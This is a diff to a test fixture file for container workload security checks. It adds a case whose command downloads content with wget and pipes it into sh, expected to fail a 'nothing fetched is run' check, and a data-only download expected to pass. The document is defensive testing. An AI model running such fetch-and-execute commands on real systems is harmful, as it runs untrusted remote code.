@@ -179,6 +179,16 @@ export const working: readonly Container[] = [
     expect: { 'workload-no-remote-shell': 'pass', 'workload-single-function': 'pass' },
   },
   {
+    name: 'runs-what-it-fetches',
+    command: ['sh', '-c', 'wget -qO- http://127.0.0.1:9/x | sh; sleep 99999'],
+    expect: { 'workload-nothing-fetched-run': ['fail', 'Runs what it fetches'] },
+  },
+  {
+    name: 'fetches-data',
+    command: ['sh', '-c', 'wget -O /x.json https://data.example/x.json; sleep 99999'],
+    expect: { 'workload-nothing-fetched-run': 'pass' },
+  },
+  {
     name: 'runs-nothing',
     image: 'example/several:1',
     command: ['/srv/sshd'],
